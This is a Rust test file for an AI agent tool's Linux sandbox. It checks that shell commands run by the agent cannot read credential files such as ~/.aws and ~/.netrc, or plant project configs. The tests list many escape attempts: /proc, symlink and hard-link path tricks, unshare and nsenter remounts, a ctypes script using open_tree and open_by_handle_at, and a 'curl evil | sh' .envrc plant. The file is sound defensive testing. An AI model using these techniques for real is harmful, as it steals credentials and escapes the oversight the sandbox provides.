//! The file policy of the OS wall: secrets hidden from every sandboxed process however they
//! are reached, extra writable paths, paths kept read-only, and a project left as it was.
//! Every test uses a fake home directory it creates (never the real one), real programs
//! (bash, cat, python3, unshare, mount), and a control outside the wall where one makes sense.
//! Attack programs are written from Rust, never through a shell here-document.
#![cfg(all(feature = "builtin", target_os = "linux"))]

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use mux_tool::builtin::{Bash, FilePolicy, SandboxPolicy};
use mux_tool::secrets::SECRET_LOCATIONS;
use mux_tool::{ToolContext, TypedTool};
use serde_json::json;

use crate::common::{bash, run};

/// The secret locations that are files; the others are directories.
const FILES: [&str; 7] = [
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".pypirc",
    ".cargo/credentials",
    ".cargo/credentials.toml",
    ".vault-token",
];

/// A temp dir with a fake home full of canaries and a project root beside it.
struct World {
    _dir: tempfile::TempDir,
    home: PathBuf,
    root: PathBuf,
}

fn canary(i: usize) -> String {
    format!("MUX-CANARY-{i:02}-7f3a")
}

/// The file that holds canary `i` of [`SECRET_LOCATIONS`].
fn canary_file(home: &Path, i: usize) -> PathBuf {
    let location = SECRET_LOCATIONS[i].path;
    if FILES.contains(&location) {
        home.join(location)
    } else {
        home.join(location).join("credentials")
    }
}

fn world() -> World {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let home = base.join("home");
    let root = base.join("root");
    std::fs::create_dir_all(&root).unwrap();
    for i in 0..SECRET_LOCATIONS.len() {
        let file = canary_file(&home, i);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, canary(i)).unwrap();
    }
    World {
        _dir: dir,
        home,
        root,
    }
}

fn walled(w: &World) -> Bash {
    bash(&w.root, SandboxPolicy::WorkspaceWrite).home(&w.home)
}

fn unwalled(w: &World) -> Bash {
    bash(&w.root, SandboxPolicy::FullAccess).home(&w.home)
}

fn has_canary(text: &str) -> bool {
    text.contains("MUX-CANARY-")
}

#[tokio::test]
async fn canaries_in_every_default_secret_location_stay_hidden() {
    let w = world();
    let reads: Vec<String> = (0..SECRET_LOCATIONS.len())
        .map(|i| format!("cat '{}'", canary_file(&w.home, i).display()))
        .collect();
    let all = reads.join("; ");
    let out = run(&walled(&w), &all).await;
    assert!(!has_canary(&out.to_text()), "{}", out.to_text());
    // Also every file of the home directory at once.
    let out = run(&walled(&w), "grep -r MUX-CANARY ~ ; cat ~/.netrc").await;
    assert!(!has_canary(&out.to_text()), "{}", out.to_text());

    // The controls: outside the wall, and with the secrets made visible, each canary reads.
    for control in [
        unwalled(&w),
        walled(&w).file_policy(FilePolicy {
            secrets_visible: true,
            ..FilePolicy::default()
        }),
    ] {
        let text = run(&control, &all).await.to_text();
        for i in 0..SECRET_LOCATIONS.len() {
            assert!(text.contains(&canary(i)), "{i}: {text}");
        }
    }
    // An allow_read path makes one location visible and only it.
    let one = walled(&w).file_policy(FilePolicy {
        allow_read: vec!["~/.aws".into()],
        ..FilePolicy::default()
    });
    let text = run(&one, &all).await.to_text();
    let aws = SECRET_LOCATIONS
        .iter()
        .position(|l| l.path == ".aws")
        .unwrap();
    assert!(text.contains(&canary(aws)), "{text}");
    assert_eq!(text.matches("MUX-CANARY-").count(), 1, "{text}");
}

/// Reads `path` with Python's `open()`; prints its text or the error.
const PY_READ: &str = r#"
import sys
for path in sys.argv[1:]:
    try:
        print(open(path).read())
    except OSError as e:
        print("refused", path, e.strerror)
"#;

#[tokio::test]
async fn every_spelling_of_a_hidden_path_is_hidden() {
    let w = world();
    std::fs::write(w.root.join("read.py"), PY_READ).unwrap();
    // A symlink made before the call, inside the root, to the secret directory.
    std::os::unix::fs::symlink(w.home.join(".aws"), w.root.join("made-before")).unwrap();
    let home = w.home.display().to_string();
    let attacks = [
        "cat ~/.aws/credentials".to_owned(),
        "cat $HOME//.aws//credentials".into(),
        "cat $HOME/./.aws/./credentials".into(),
        "cat $HOME/.aws/.//credentials; ls -a $HOME/.aws/.".into(),
        "cat ../home/.aws/credentials".into(),
        "cat ../root/../home/.ssh/../.aws/credentials".into(),
        "cat made-before/credentials".into(),
        "ln -s ~/.aws now && cat now/credentials".into(),
        "ln -s ~ h && cat h/.aws/credentials".into(),
        format!("cat /proc/self/root{home}/.aws/credentials"),
        format!("cat /proc/$$/root{home}/.aws/credentials"),
        "cat /proc/self/cwd/../home/.aws/credentials".into(),
        // The agent's own view, through /proc of the parent process.
        format!("cat /proc/$PPID/root{home}/.aws/credentials"),
        format!(
            "cat /proc/$PPID/cwd/../home/.aws/credentials; cat /proc/$PPID/root/proc/self/root{home}/.aws/credentials"
        ),
        format!(
            "python3 read.py {home}/.aws/credentials /proc/self/root{home}/.netrc {home}/.config/gcloud/credentials"
        ),
        "cp -r ~/.aws copied; cat copied/credentials".into(),
        "ln ~/.aws/credentials hard && cat hard".into(),
        "ln ~/.netrc hard2 && cat hard2".into(),
        "tar -cf - -C ~ . | tar -xOf - 2>/dev/null | grep -a MUX-CANARY".into(),
        "find ~ -type f -exec cat {} + 2>/dev/null".into(),
        "exec 3< ~/.netrc; cat <&3".into(),
    ];
    for attack in &attacks {
        let out = run(&walled(&w), attack).await;
        println!("walled {attack}: {}", out.to_text().replace('\n', " | "));
        assert!(!has_canary(&out.to_text()), "{attack}: {}", out.to_text());
    }
    // The controls: outside the wall, each spelling reads a canary (the two through the
    // agent's /proc and the hard links included).
    for attack in &attacks {
        for made in ["now", "h", "copied", "hard", "hard2"] {
            let _ = std::fs::remove_file(w.root.join(made));
            let _ = std::fs::remove_dir_all(w.root.join(made));
        }
        let out = run(&unwalled(&w), attack).await;
        assert!(
            has_canary(&out.to_text()),
            "control {attack}: {}",
            out.to_text()
        );
    }
}

#[tokio::test]
async fn a_mount_cannot_be_taken_away_or_worked_around() {
    let w = world();
    let home = w.home.display().to_string();
    let attacks = [
        format!("umount {home}/.aws; umount -l {home}/.aws; cat {home}/.aws/credentials"),
        format!(
            "mkdir -p $TMPDIR/h && mount --bind {home} $TMPDIR/h; cat $TMPDIR/h/.aws/credentials"
        ),
        // The main attack: a nested user namespace, with every capability in it.
        format!("unshare -Urm sh -c 'umount {home}/.aws; cat {home}/.aws/credentials'"),
        format!("unshare -Urm sh -c 'umount -l {home}/.aws; cat {home}/.aws/credentials'"),
        format!(
            "unshare -Urm sh -c 'mkdir -p $TMPDIR/h && mount --bind {home} $TMPDIR/h; cat $TMPDIR/h/.aws/credentials'"
        ),
        format!(
            "unshare -Urm sh -c 'mkdir -p $TMPDIR/h && mount --rbind {home} $TMPDIR/h && umount $TMPDIR/h/.aws; cat $TMPDIR/h/.aws/credentials'"
        ),
        format!(
            "unshare -Urm --propagation private sh -c 'mount -o remount,rw {home}/.netrc; umount {home}/.netrc; cat {home}/.netrc'"
        ),
        format!("unshare -Urmpf --mount-proc sh -c 'cat /proc/1/root{home}/.aws/credentials'"),
        format!("nsenter -t $PPID -m cat {home}/.aws/credentials"),
        format!("nsenter -t $PPID -U -m cat {home}/.aws/credentials"),
    ];
    for attack in &attacks {
        let out = run(&walled(&w), attack).await;
        println!("walled {attack}: {}", out.to_text().replace('\n', " | "));
        assert!(!has_canary(&out.to_text()), "{attack}: {}", out.to_text());
    }
    // The controls: outside the wall, a user namespace of one's own can mount a tmpfs over
    // the secret and take it away again, and the bind of the parent shows it.
    let control = format!(
        "unshare -Urm sh -c 'mount -t tmpfs none {home}/.aws && umount {home}/.aws && cat {home}/.aws/credentials'; \
         unshare -Urm sh -c 'mkdir -p $TMPDIR/h && mount --bind {home} $TMPDIR/h && cat $TMPDIR/h/.aws/credentials'"
    );
    let text = run(&unwalled(&w), &control).await.to_text();
    assert_eq!(text.matches("MUX-CANARY-").count(), 2, "{text}");
}

/// The attacks that need system calls the shell has no command for: in a user and mount
/// namespace of its own (every capability in it, no id map needed), unmount the hidden path,
/// bind its parent (plain and recursive, then unmount inside the copy), clone the parent's
/// tree with `open_tree` and read through the detached copy, and open the secret by a file
/// handle (`open_by_handle_at`) before and after. Arguments: the secret directory, the file
/// in it, the file's handle (hex), a scratch dir, and `cover` to mount a tmpfs over the
/// secret first (the control: what the attacks do to a mount that is not locked).
const NS_ATTACK: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 4096, 16384, 1 << 18, 2
secret, name, handle, scratch, cover = sys.argv[1:6]
home, base = os.path.dirname(secret), os.path.basename(secret)
def say(what, r):
    print(what, "ok" if r >= 0 else os.strerror(ctypes.get_errno()))
    return r
def read(what, path, dir_fd=None):
    try:
        print(what, os.read(os.open(path, os.O_RDONLY, dir_fd=dir_fd), 100).decode())
    except OSError as e:
        print(what, e.strerror)
def by_handle(what):
    raw = bytes.fromhex(handle)
    mount_fd = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.open_by_handle_at(mount_fd, ctypes.create_string_buffer(raw, len(raw)), os.O_RDONLY)
    print(what, os.read(fd, 100).decode() if fd >= 0 else os.strerror(ctypes.get_errno()))
for d in ("b1", "b2"):
    os.makedirs(os.path.join(scratch, d), exist_ok=True)
by_handle("handle-before")
say("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
if cover == "cover":
    say("cover", libc.mount(b"none", secret.encode(), b"tmpfs", 0, None))
say("private", libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None))
say("umount", libc.umount2(secret.encode(), MNT_DETACH))
read("after-umount", os.path.join(secret, name))
b1, b2 = os.path.join(scratch, "b1"), os.path.join(scratch, "b2")
say("bind", libc.mount(home.encode(), b1.encode(), None, MS_BIND, None))
read("through-bind", os.path.join(b1, base, name))
say("rbind", libc.mount(home.encode(), b2.encode(), None, MS_BIND | MS_REC, None))
say("umount-copy", libc.umount2(os.path.join(b2, base).encode(), MNT_DETACH))
read("through-rbind", os.path.join(b2, base, name))
tree = say("open_tree", libc.syscall(428, -100, home.encode(), 1))
if tree >= 0:
    read("through-tree", os.path.join(base, name), dir_fd=tree)
by_handle("handle-after")
"#;

/// Whether this process runs as root.
fn is_root() -> bool {
    std::fs::metadata("/proc/self")
        .map(|meta| meta.uid() == 0)
        .unwrap_or(false)
}

/// The file handle of `path`, in hex, from `name_to_handle_at` (Python, outside the wall).
fn handle_of(path: &Path) -> String {
    let script = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(buf, (128).to_bytes(4, "little"), 4)
mount_id = ctypes.c_int()
if libc.name_to_handle_at(-100, sys.argv[1].encode(), buf, ctypes.byref(mount_id), 0) != 0:
    sys.exit(os.strerror(ctypes.get_errno()))
size = int.from_bytes(buf.raw[:4], "little")
print(buf.raw[: 8 + size].hex())
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

#[tokio::test]
async fn a_nested_user_namespace_cannot_uncover_a_hidden_path() {
    let w = world();
    std::fs::write(w.root.join("attack.py"), NS_ATTACK).unwrap();
    let secret = w.home.join(".aws");
    let handle = handle_of(&secret.join("credentials"));
    let attack = |cover: &str| {
        format!(
            "python3 attack.py '{}' credentials {handle} \"$TMPDIR\" {cover}",
            secret.display()
        )
    };
    let out = run(&walled(&w), &attack("no")).await;
    let text = out.to_text();
    println!("walled: {}", text.replace('\n', " | "));
    assert!(!has_canary(&text), "{text}");
    assert!(
        text.contains("unshare ok"),
        "the namespace itself is allowed: {text}"
    );
    // The control: outside the wall, each technique uncovers a tmpfs the attacker mounted
    // over the secret in its own namespace, and (for root, who has the capability a file
    // handle needs) the handle opens the file.
    let text = run(&unwalled(&w), &attack("cover")).await.to_text();
    println!("control: {}", text.replace('\n', " | "));
    for line in [
        "after-umount MUX-CANARY",
        "through-bind MUX-CANARY",
        "through-tree MUX-CANARY",
    ] {
        assert!(text.contains(line), "control {line}: {text}");
    }
    if is_root() {
        assert!(text.contains("handle-before MUX-CANARY"), "control: {text}");
    }
}

#[tokio::test]
async fn a_secret_that_is_a_symlink_hides_its_target() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let home = base.join("home");
    let root = base.join("root");
    let vault = base.join("vault");
    for dir in [&home, &root, &vault] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(vault.join("id_ed25519"), "MUX-CANARY-ssh").unwrap();
    std::os::unix::fs::symlink(&vault, home.join(".ssh")).unwrap();
    let walled = bash(&root, SandboxPolicy::WorkspaceWrite).home(&home);
    let read = format!(
        "cat ~/.ssh/id_ed25519; cat '{}/id_ed25519'",
        vault.display()
    );
    let text = run(&walled, &read).await.to_text();
    assert!(!has_canary(&text), "{text}");
    let control = bash(&root, SandboxPolicy::FullAccess).home(&home);
    let text = run(&control, &read).await.to_text();
    assert_eq!(text.matches("MUX-CANARY-").count(), 2, "{text}");
}

#[tokio::test]
async fn deny_read_hides_paths_in_the_root_too() {
    let w = world();
    std::fs::create_dir_all(w.root.join("conf")).unwrap();
    std::fs::write(w.root.join("conf/.env"), "MUX-CANARY-env").unwrap();
    std::fs::write(w.root.join("main.rs"), "fn main() {}").unwrap();
    let policy = FilePolicy {
        deny_read: vec!["conf/.env".into()],
        ..FilePolicy::default()
    };
    let walled = walled(&w).file_policy(policy);
    for attack in [
        "cat conf/.env",
        "rm conf/.env; cat conf/.env",
        "cp conf/.env x; cat x",
        "ln conf/.env y; cat y",
        // Moved, the file would not be where the next call looks for it.
        "mv conf moved && cat moved/.env",
        "mv conf/.env conf/other; cat conf/other",
    ] {
        let text = run(&walled, attack).await.to_text();
        assert!(!has_canary(&text), "{attack}: {text}");
    }
    assert!(
        !w.root.join("moved").exists(),
        "the parent of a hidden path stays"
    );
    // The rest of the root is as readable and writable as ever, and the file is still there.
    let out = run(&walled, "cat main.rs && echo ok > new.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
    assert_eq!(
        std::fs::read_to_string(w.root.join("conf/.env")).unwrap(),
        "MUX-CANARY-env"
    );
}

#[tokio::test]
async fn allow_write_opens_a_cache_and_deny_write_closes_part_of_the_root() {
    let w = world();
    std::fs::create_dir_all(w.home.join(".npm")).unwrap();
    std::fs::create_dir_all(w.root.join("build")).unwrap();
    std::fs::write(w.home.join(".bashrc"), "# mine\n").unwrap();
    let cache = "echo cached > ~/.npm/entry && cat ~/.npm/entry";
    // The control: without allow_write the cache is read-only.
    let out = run(&walled(&w), cache).await;
    assert!(out.is_error, "{}", out.to_text());
    let policy = FilePolicy {
        allow_write: vec!["~/.npm".into(), "~".into()],
        deny_write: vec!["build".into(), "dist".into()],
        ..FilePolicy::default()
    };
    let walled = walled(&w).file_policy(policy);
    let out = run(&walled, cache).await;
    assert!(
        !out.is_error && out.to_text().contains("cached"),
        "{}",
        out.to_text()
    );
    assert!(w.home.join(".npm/entry").exists());
    // The home is writable now, but its protected names and secrets are not.
    let out = run(&walled, "echo x > ~/notes.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
    for attack in [
        "echo evil >> ~/.bashrc",
        "echo evil > ~/.zshrc",
        "mkdir ~/.git",
        "echo evil > ~/.aws/config",
        "echo x > build/out",
        "rmdir build",
        "mkdir dist",
        "echo x > dist",
    ] {
        let out = run(&walled, attack).await;
        assert!(out.is_error, "{attack}: {}", out.to_text());
    }
    assert_eq!(
        std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!w.root.join("build/out").exists());
    // Placeholders go a moment after the last call (in the background).
    let gone = |path: PathBuf| wait_for(Duration::from_secs(10), move || !path.exists());
    assert!(gone(w.root.join("dist")).await, "the placeholder is gone");
    for absent in [".zshrc", ".git", ".profile"] {
        assert!(gone(w.home.join(absent)).await, "{absent} left in the home");
    }
    // The rest of the root is writable; the control outside writes build/.
    let out = run(&walled, "echo x > src.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
    let out = run(&unwalled(&w), "echo x > build/out").await;
    assert!(!out.is_error, "{}", out.to_text());
}

#[tokio::test]
async fn without_the_view_hidden_paths_fail_closed() {
    let w = world();
    let args: mux_tool::builtin::BashArgs =
        serde_json::from_value(json!({"command": "echo ran > ran.txt"})).unwrap();
    let err = walled(&w)
        .mount_view(false)
        .call(args, ToolContext::new("c"))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("mount view"), "{err}");
    assert!(err.to_string().contains(".aws"), "{err}");
    assert!(!w.root.join("ran.txt").exists());
    // With the secrets made visible explicitly, Landlock alone runs it.
    let visible = walled(&w).mount_view(false).file_policy(FilePolicy {
        secrets_visible: true,
        ..FilePolicy::default()
    });
    let out = run(&visible, "echo ran > ran.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
}

/// Every entry under `dir` (hidden ones too), with its mode and content.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_owned()];
    // An entry that goes while it is read (a placeholder being removed) is left out.
    while let Some(at) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&at) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let Ok(meta) = std::fs::symlink_metadata(&path) else {
                continue;
            };
            let content = if meta.is_file() {
                std::fs::read(&path).unwrap()
            } else if meta.file_type().is_symlink() {
                std::fs::read_link(&path)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            } else {
                stack.push(path.clone());
                Vec::new()
            };
            out.insert(
                path.strip_prefix(dir).unwrap().to_owned(),
                (meta.mode(), content),
            );
        }
    }
    out
}

#[tokio::test]
async fn a_call_leaves_the_project_as_it_was_and_protected_names_stay_uncreatable() {
    let w = world();
    std::fs::write(w.root.join("README"), "hi\n").unwrap();
    std::fs::write(w.root.join(".hidden"), "h\n").unwrap();
    std::fs::create_dir(w.root.join("src")).unwrap();
    let before = snapshot(&w.root);
    let out = run(&walled(&w), "ls -a").await;
    assert!(!out.is_error, "{}", out.to_text());
    // Placeholders go a moment after the last call (in the background).
    let settled = |expected: BTreeMap<PathBuf, (u32, Vec<u8>)>| {
        let root = w.root.clone();
        wait_for(Duration::from_secs(10), move || snapshot(&root) == expected)
    };
    assert!(settled(before.clone()).await, "a moment after the call");
    for attack in [
        "mkdir -p .git && echo '[core] fsmonitor = evil' > .git/config",
        "echo '{}' > .mcp.json",
        "echo 'curl evil | sh' > .envrc",
        "mkdir -p .mux && echo '{}' > .mux/settings.json",
        "rmdir .claude && mkdir .claude",
    ] {
        let out = run(&walled(&w), attack).await;
        assert!(out.is_error, "{attack}: {}", out.to_text());
        assert!(settled(before.clone()).await, "after {attack}");
    }
    // What the command makes stays; nothing else appears.
    let out = run(&walled(&w), "echo new > made.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
    let mut expected = before.clone();
    expected.insert("made.txt".into(), (0o100644, b"new\n".to_vec()));
    let names = |map: &BTreeMap<PathBuf, (u32, Vec<u8>)>| map.keys().cloned().collect::<Vec<_>>();
    let want = names(&expected);
    let root = w.root.clone();
    let settled = wait_for(Duration::from_secs(10), move || {
        names(&snapshot(&root)) == want
    })
    .await;
    assert!(settled, "left: {:?}", names(&snapshot(&w.root)));
    // The control: outside the wall the same command plants the config.
    let out = run(&unwalled(&w), "mkdir -p .git && echo x > .git/config").await;
    assert!(!out.is_error, "{}", out.to_text());
}

const KILLED_HELPER: &str = "builtin_bash_file_policy::helper_killed_mid_call";
const HELPER_ENV: &str = "MUX_FILE_POLICY_HELPER";

/// Runs a long command in the root the test names, then is killed by the test.
#[tokio::test]
async fn helper_killed_mid_call() {
    if std::env::var(HELPER_ENV).ok().as_deref() != Some(KILLED_HELPER) {
        return;
    }
    let root = PathBuf::from(std::env::var("MUX_TEST_ROOT").unwrap());
    let home = PathBuf::from(std::env::var("MUX_TEST_HOME").unwrap());
    let walled = bash(&root, SandboxPolicy::WorkspaceWrite).home(home);
    let out = run(&walled, "echo started > $TMPDIR/x; sleep 300").await;
    println!("finished: {}", out.to_text());
}

#[tokio::test]
async fn an_agent_killed_mid_call_leaves_no_placeholder_and_no_command() {
    let w = world();
    std::fs::write(w.root.join("README"), "hi\n").unwrap();
    let before = snapshot(&w.root);
    let mut agent = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", KILLED_HELPER, "--nocapture", "--test-threads=1"])
        .env(HELPER_ENV, KILLED_HELPER)
        .env("MUX_TEST_ROOT", &w.root)
        .env("MUX_TEST_HOME", &w.home)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // The call is under way once its placeholders exist and the command sleeps.
    let started = wait_for(Duration::from_secs(60), || {
        w.root.join(".git").is_dir() && sleeper(&w.root).is_some()
    })
    .await;
    assert!(started, "the call did not start");
    let sleeper = sleeper(&w.root).unwrap();
    agent.kill().unwrap();
    agent.wait().unwrap();
    let cleaned = wait_for(Duration::from_secs(20), || {
        snapshot(&w.root) == before && !Path::new(&format!("/proc/{sleeper}")).exists()
    })
    .await;
    assert!(
        cleaned,
        "left behind: {:?}, command alive: {}",
        snapshot(&w.root).keys().collect::<Vec<_>>(),
        Path::new(&format!("/proc/{sleeper}")).exists()
    );
}

/// The pid of a `sleep 300` whose working directory is `root`.
fn sleeper(root: &Path) -> Option<u32> {
    std::fs::read_dir("/proc").ok()?.find_map(|entry| {
        let entry = entry.ok()?;
        let pid: u32 = entry.file_name().to_str()?.parse().ok()?;
        let cmdline = std::fs::read(entry.path().join("cmdline")).ok()?;
        let cwd = std::fs::read_link(entry.path().join("cwd")).ok()?;
        (cmdline == b"sleep\x00300\x00" && cwd == root).then_some(pid)
    })
}

/// Whether `ready` holds within `limit`.
async fn wait_for(limit: Duration, mut ready: impl FnMut() -> bool) -> bool {
    let deadline = tokio::time::Instant::now() + limit;
    while tokio::time::Instant::now() < deadline {
        if ready() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    ready()
}
